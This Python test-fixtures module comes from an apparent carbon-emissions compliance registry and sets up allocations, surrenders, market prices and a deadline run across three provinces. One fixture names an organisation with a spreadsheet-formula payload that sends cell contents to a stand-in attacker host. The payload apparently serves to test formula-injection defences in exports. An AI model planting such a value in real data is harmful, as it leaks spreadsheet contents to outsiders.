"""A period whose deadline has been processed, across three provinces (the compliance tests' A/B/C
setting, see tests/compliance/test_deadline.py), plus a Shandong unit whose name is a spreadsheet
formula (status C).

- company_a, Shandong: A, allocated 57,526, verified 50,000, surrendered 48,000 CEA + 2,000 CCER.
- company_b, Jiangsu: B, allocated 57,526, verified 100,000, surrendered 50,000 + 3,000, shortfall
  24,526, fine basis 5-10 x 24,526 x 6,067 fen.
- company_c, Guangdong: C, allocated 57,526.
- formula_unit, Shandong: C, allocated 57,526."""

import datetime as dt

import pytest
from django.utils import timezone

from accounts.roles import Role
from allocation.models import CompliancePeriod
from allocation.services import period_create
from compliance.services import compliance_deadline_run, surrender_create
from registry.models import Asset
from tests.compliance.helpers import ccer_give, officer_of, plan_issue, verify
from tests.factories import OrganizationFactory, make_uscc, user_with_role
from trading.models import DailyBar, Instrument

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
PRICE = 6_067  # fen: the volume-weighted average of November 2022 below
SHORTFALL_B = 24_526
FINE_B = (5 * SHORTFALL_B * PRICE, 10 * SHORTFALL_B * PRICE)


@pytest.fixture
def company_c(db):
    return OrganizationFactory(name="Guangdong Coal Power Co., Ltd.", province="44", uscc=make_uscc("44"))


@pytest.fixture
def formula_unit(db):
    return OrganizationFactory(name=FORMULA_NAME, province="37", uscc=make_uscc("37"))


@pytest.fixture
def period(national_regulator):
    return period_create(code="2021", first_year=2021, last_year=2021, vintages=[Asset.objects.get(code="CEA21")],
                         surrender_deadline=timezone.localdate() + dt.timedelta(days=60), actor=national_regulator)


@pytest.fixture
def surrendered(period, company_a, company_b, company_c, formula_unit, national_regulator, second_national_regulator):
    """Allocated, verified and surrendered; the deadline not yet processed."""
    plan_issue(period, [(company_a, "coal_gt300", 100_000), (company_b, "coal_gt300", 100_000),
                        (company_c, "coal_gt300", 100_000), (formula_unit, "coal_gt300", 100_000)],
               maker=national_regulator, checker=second_national_regulator)
    verify(period, national_regulator, {company_a: 50_000, company_b: 100_000})
    ccer_give(company_a, 2_000, national_regulator)
    ccer_give(company_b, 3_000, national_regulator)
    officer_a, officer_b = officer_of(company_a), officer_of(company_b)
    surrender_create(user=officer_a, period="2021", asset="CEA21", quantity=48_000, client_request_id="a-cea")
    surrender_create(user=officer_a, period="2021", asset="CCER", quantity=2_000, client_request_id="a-ccer")
    surrender_create(user=officer_b, period="2021", asset="CEA21", quantity=50_000, client_request_id="b-cea")
    surrender_create(user=officer_b, period="2021", asset="CCER", quantity=3_000, client_request_id="b-ccer")
    return period


@pytest.fixture
def closed_period(surrendered):
    """The deadline passed (31 December 2022) with November's trading at 6,067 fen, and the job ran."""
    CompliancePeriod.objects.filter(pk=surrendered.pk).update(surrender_deadline=dt.date(2022, 12, 31))
    surrendered.refresh_from_db()
    cea21 = Instrument.objects.get(symbol="CEA21")
    for day, volume, turnover in ((dt.date(2022, 11, 10), 1_000, 5_800_000), (dt.date(2022, 11, 25), 2_000, 12_400_001)):
        # Market data is reference data here: written as the end of day would have.
        DailyBar.objects.create(instrument=cea21, day=day, close=turnover // volume, volume=volume, turnover=turnover,
                                trade_count=1, reference_price=turnover // volume)
    compliance_deadline_run(period=surrendered)
    return surrendered


@pytest.fixture
def jiangsu_regulator(db):
    bureau = OrganizationFactory(name="Jiangsu Department of Ecology and Environment", kind="institution",
                                 sector="government", province="32")
    return user_with_role(Role.PROVINCIAL_REGULATOR, bureau)
